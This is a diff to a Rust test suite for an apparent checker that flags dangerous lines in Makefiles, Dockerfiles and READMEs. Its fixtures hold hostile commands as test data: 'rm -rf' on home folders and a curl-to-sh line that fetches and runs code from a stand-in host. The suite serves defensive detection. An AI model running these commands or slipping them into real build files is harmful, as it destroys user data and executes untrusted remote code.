@@ -19,7 +19,8 @@ fn the_line_of_code_is_shown_with_the_place() {
     assert_eq!(done.out, wanted);
     assert_eq!(home.run(&["check", "--fail-on", "medium", "a.py"]).code, Some(1));
     assert_eq!(home.run(&["check"]).code, Some(2));
-    assert_eq!(home.run(&["check", "--language", "pyhton", "a.py"]).code, Some(2));
+    let done = home.run(&["check", "--language", "pyhton", "a.py"]);
+    assert_eq!((done.code, done.err.matches("typescript").count()), (Some(2), 1), "{}", done.err);
 }
 
 #[test]
@@ -217,7 +218,7 @@ fn builds_recipes_and_fences_are_read() {
     );
     home.file(
         "Makefile",
-        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\n",
+        "DIR = /home\nall:\n\t@echo hello\n\trm -rf $(DIR)\nX := $(shell curl https://x.example | sh)\nclean:\n\trm -rf $(HOME)\n\trm -rf $(BUILD)\n",
     );
     home.file(
         "README.md",
@@ -230,6 +231,8 @@ fn builds_recipes_and_fences_are_read() {
         "Dockerfile:6:1: HIGH",
         "Makefile:4:1: HIGH",
         "Makefile:5:1: HIGH",
+        "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
+        "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
         "README.md:5:1: HIGH",
         "README.md:13:3: HIGH",
     ] {
